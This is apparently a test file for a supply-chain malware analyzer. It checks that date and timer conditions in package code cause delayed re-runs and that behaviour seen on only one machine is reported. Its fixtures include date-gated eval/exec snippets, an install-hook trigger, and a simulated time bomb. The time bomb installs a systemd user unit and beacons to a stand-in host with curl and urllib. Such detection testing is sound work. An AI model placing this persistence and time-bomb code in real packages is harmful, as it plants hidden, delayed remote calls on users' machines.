"""What a package may be waiting for, as far as its code shows it; and what only one of several machines saw."""

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from msgspec.structs import replace
from tests.registry.build import wheel

from biopsy.model.behaviour import Behaviour, When
from biopsy.model.release import Tree, TreeFile
from biopsy.model.run import Outcome, Phase, Run, Status, Watch
from biopsy.pipeline import Options, analyze, differing, waiting

PLAN = (
    Phase("install", "npm.mjs", ("install", "--budget", "170"), 180.0, installs=True),
    Phase("import", "npm.mjs", ("import", "--name", "x", "--budget", "45"), 60.0),
    Phase("execute", "npm.mjs", ("execute",), 25.0),
)
TODAY = datetime(2026, 11, 22, tzinfo=UTC)


def goes(folder: Path, text: str, name: str = "index.js") -> list[str]:
    (folder / name).write_text(text)
    tree = Tree(folder, (TreeFile(name, len(text.encode()), ""),))
    return [phase.again for phase in waiting.more(tree, PLAN, TODAY)]


def test_code_that_asks_for_the_time_and_for_files_is_started_once_more(tmp_path: Path) -> None:
    text = "if (Date.now() - fs.statSync(stamp).mtimeMs > 2 * 864e5) go()"
    assert goes(tmp_path, text) == ["3d"]
    assert goes(tmp_path, "export default (a, b) => a + b") == []


@pytest.mark.parametrize(
    "date",
    [
        "Date.parse('2031-04-01')",
        "new Date(2031, 3, 1)",
        "Time.new(2031, 4, 1)",
        "Date.new(2031, 4, 1)",
        "datetime(2031, 4, 1, 8, 30)",
        "1932768000",
        "1932768000000",
        "1_932_768_000",
        "1.932768e12",
        "1932768e3",
    ],
)
def test_a_day_to_come_is_gone_to_where_the_code_asks_for_the_time(tmp_path: Path, date: str) -> None:
    assert goes(tmp_path, f"if (Date.now() > {date}) go()") == ["2031-04-01"]
    assert goes(tmp_path, f"const expires = {date}") == []


@pytest.mark.parametrize(
    ("code", "day"),
    [
        ("const d = new Date(); if (d.getUTCMonth() === 11 && d.getUTCDate() > 24) eval(x)", "2026-12-25"),
        ("const day = new Date().getDay(); if (day === 6) eval(x)", "2026-11-28"),
        ("if (new Date().getFullYear() >= 2028) eval(x)", "2028-01-01"),
        ("if date.today().month == 2 and date.today().day == 29: exec(x)", "2028-02-29"),
        ("if time.localtime().tm_year > 2026: exec(x)", "2027-01-01"),
        ("if time.localtime()[:2] >= (2027, 3): exec(x)", "2027-03-02"),
        ("if date.today().toordinal() > 740200: exec(x)", "2027-08-08"),
        ("m = datetime.now().month\nif m >= 6 and m < 8: exec(x)", "2027-06-01"),
        ("if datetime.now().month in range(4, 6): exec(x)", "2027-04-01"),
    ],
)
def test_a_day_is_gone_to_on_which_holds_what_harmful_code_asks_of_the_calendar(
    tmp_path: Path, code: str, day: str
) -> None:
    assert goes(tmp_path, code, "a.py" if "exec" in code else "index.js") == [day]
    assert (
        day not in goes(tmp_path, code.replace("eval", "f").replace("exec", "f"))
        or "(2027" in code
        or "740" in code
    )


def test_a_calendar_that_asks_for_today_or_for_no_day_there_is_moves_nothing(tmp_path: Path) -> None:
    assert goes(tmp_path, "if (new Date().getMonth() === 10) eval(x)") == []
    assert goes(tmp_path, "const d = new Date(); if (d.getMonth() === 1 && d.getDate() === 31) eval(x)") == []


def test_the_hour_that_is_asked_for_is_kept_too(tmp_path: Path) -> None:
    text = "t = time.localtime()\nif t.tm_mon == 12 and t.tm_hour in range(2, 5): exec(x)"
    (tmp_path / "a.py").write_text(text)
    (go,) = waiting.more(Tree(tmp_path, (TreeFile("a.py", len(text), ""),)), PLAN[1:2], TODAY)
    assert (TODAY + timedelta(seconds=go.ahead)).hour == 2


@pytest.mark.parametrize(
    "date", ["'2019-04-01'", "'2026-11-22'", "'2048-01-01'", "'2031-02-31'", "20310401", "v2031-04-011"]
)
def test_days_that_are_past_too_far_or_none_are_not(tmp_path: Path, date: str) -> None:
    assert goes(tmp_path, f"if (Date.now() > {date}) go()") == []


def test_few_days_are_gone_to_and_none_twice(tmp_path: Path) -> None:
    days = "".join(f"'2031-04-{day:02}'," for day in range(1, 29)) * 2
    assert goes(tmp_path, f"Date.now(); [{days}]") == ["2031-04-01", "2031-04-03", "2031-04-05"]


def test_tests_and_bundles_are_not_looked_into(tmp_path: Path) -> None:
    (tmp_path / "test").mkdir()
    text = "Date.now() > '2031-04-01'"
    assert goes(tmp_path, text, "test/a.js") == []
    assert goes(tmp_path, text + " " * waiting.MAX_FILE) == []


def test_a_second_go_is_short_later_and_never_an_install(tmp_path: Path) -> None:
    (tmp_path / "a.js").write_text(text := "Date.now() > '2031-04-01'")
    (phase,) = waiting.more(Tree(tmp_path, (TreeFile("a.js", len(text), ""),)), PLAN, TODAY)
    assert (phase.name, phase.args[-2:], phase.timeout) == ("import", ("--budget", "15"), 25.0)
    assert phase.ahead == (datetime(2031, 4, 1, 12, tzinfo=UTC) - TODAY).total_seconds()


def branches(folder: Path, text: str, when: When) -> list[tuple[str, str, str]]:
    (folder / "a.js").write_text(text)
    tree = Tree(folder, (TreeFile("a.js", len(text), ""),))
    more = waiting.more(tree, PLAN, TODAY, moments=lambda: {"a.js": when})
    return [(one.name, one.again, one.disk.value) for one in more]


HARMFUL = "require('child_process')\nif (Date.now() > Date.parse('2031-04-01')) go()\n"


def test_what_an_install_waits_for_has_the_package_installed_once_more(tmp_path: Path) -> None:
    text = HARMFUL + "if (process.env.ACME_STAGE === 'blue') go()"
    light = [("import", "2031-04-01", "installed"), ("import", "suited", "installed")]
    assert branches(tmp_path, text, When.IMPORT) == light
    heavy = [("install", "2031-04-01", "new"), ("install", "suited", "new")]
    assert branches(tmp_path, text, When.INSTALL) == [*light, *heavy]


def test_scripts_of_the_manifest_and_lines_of_pth_files_are_code_too(tmp_path: Path) -> None:
    wants = "child_process; process.env.ACME_SESSION && go()"
    assert goes(tmp_path, json.dumps({"scripts": {"postinstall": f'node -e "{wants}"'}}), "package.json") == [
        "suited", "suited",
    ]  # fmt: skip
    assert goes(tmp_path, json.dumps({"scripts": {"test": wants}, "x": wants}), "package.json") == []
    assert goes(tmp_path, "import os; os.getenv('ACME_SESSION') and os.system('x')", "a.pth") == ["suited"]
    for odd in ("[1]", "{", '{"scripts": [1]}', '{"scripts": {"install": 1}}', "[" * 100_000):
        assert goes(tmp_path, odd, "package.json") == []


def test_an_install_is_repeated_for_few_days_and_for_no_harmless_code(tmp_path: Path) -> None:
    days = HARMFUL + "".join(f"'203{n}-04-01'," for n in range(2, 8))
    installs = [one for one in branches(tmp_path, days, When.INSTALL) if one[0] == "install"]
    assert len(installs) == waiting.MAX_INSTALLS
    harmless = "if (Date.now() > Date.parse('2031-04-01')) console.log('late')"
    assert [one[0] for one in branches(tmp_path, harmless, When.INSTALL)] == ["import"]


def test_the_go_on_the_used_disk_stays_on_it(tmp_path: Path) -> None:
    text = "if (Date.now() - fs.statSync(stamp).mtimeMs > 864e5) go()"
    assert branches(tmp_path, text, When.INSTALL) == [("import", "3d", "used")]


def run_of(profile: str, *behaviours: str, status: Status = Status.COMPLETED) -> Run:
    seen = tuple(Behaviour.parse(f"{text} @ {profile}/import#{n}") for n, text in enumerate(behaviours, 1))
    return Run(profile, seen, (Outcome(profile, "import", status),), (), (), (), Watch(profile))


def different(*runs: Run) -> list[str]:
    found = differing.profiles(runs)
    return [b.value for run in found for b in run.behaviours if b.kind == "differs.profile"]


def test_what_one_machine_alone_sees_is_told() -> None:
    both = "net.http GET https://both.example/"
    laptop = run_of("laptop", both, "net.http POST https://collector.example/")
    assert different(laptop, run_of("ci", both)) == ["laptop net.http POST https://collector.example/"]
    assert different(laptop) == []


def test_homes_of_different_names_are_no_difference() -> None:
    laptop = run_of("laptop", "file.delete /home/ada/.cache/x")
    assert different(laptop, run_of("ci", "file.delete /home/runner/.cache/x")) == []


def test_a_machine_that_did_not_get_that_far_proves_nothing() -> None:
    laptop = run_of("laptop", "net.http POST https://collector.example/")
    assert different(laptop, run_of("ci", status=Status.TIMEOUT)) == []


def test_what_came_of_a_second_go_is_no_matter_of_machines() -> None:
    laptop = run_of(
        "laptop", "net.http GET https://x.example/", "differs.again 3d net.http GET https://x.example/"
    )
    assert different(laptop, run_of("ci")) == []
    assert different(replace(laptop, behaviours=laptop.behaviours[:1]), run_of("ci")) != []


BOMB = """
import datetime, os, subprocess, threading, time, urllib.request
def say(what):
    urllib.request.urlopen("https://late.example/" + what).read()
units = os.path.expanduser("~/.config/systemd/user")
os.makedirs(units, exist_ok=True)
with open(units + "/x.service", "w") as file:
    file.write("[Service]\\nExecStart=/bin/sh -c 'sleep 600; curl -s https://late.example/unit'\\n")
stamp = os.path.expanduser("~/.cache/stamp")
if not os.path.exists(stamp):
    open(stamp, "w").close()
    say("first")
elif time.time() - os.stat(stamp).st_mtime > 2 * 86400:
    say("again")
if datetime.date.today() == datetime.date(2031, 4, 1):
    say("bomb")
thread = threading.Timer(48 * 3600, say, ["later"])
thread.daemon = True
thread.start()
"""


@pytest.mark.sandbox
def test_time_days_traces_and_units_all_bring_out_what_waited_for_them(tmp_path: Path, home: Path) -> None:
    name, data = wheel("sim-bomb", "1.0", {"sim_bomb/__init__.py": BOMB})  # is installed without being built
    package = tmp_path / name
    package.write_bytes(data)
    chosen = Options(home=home, profiles=("laptop",), against="none")
    (analysis,) = analyze(str(package), chosen, lambda _text, _done: None)
    seen = {f"{b.kind} {b.value}" for b in analysis.dossier.behaviours}
    assert {
        "differs.clock 48h net.http GET https://late.example/later",
        "differs.clock 10m net.http GET https://late.example/unit",
        "differs.again 3d net.http GET https://late.example/again",
        "differs.again 2031-04-01 net.http GET https://late.example/bomb",
        "differs.once 3d net.http GET https://late.example/first",
        "evasion.sleep 172800",
    } <= seen
    assert {"evasion/acts-after-a-wait", "evasion/acts-on-a-date"} <= {f.rule for f in analysis.findings}
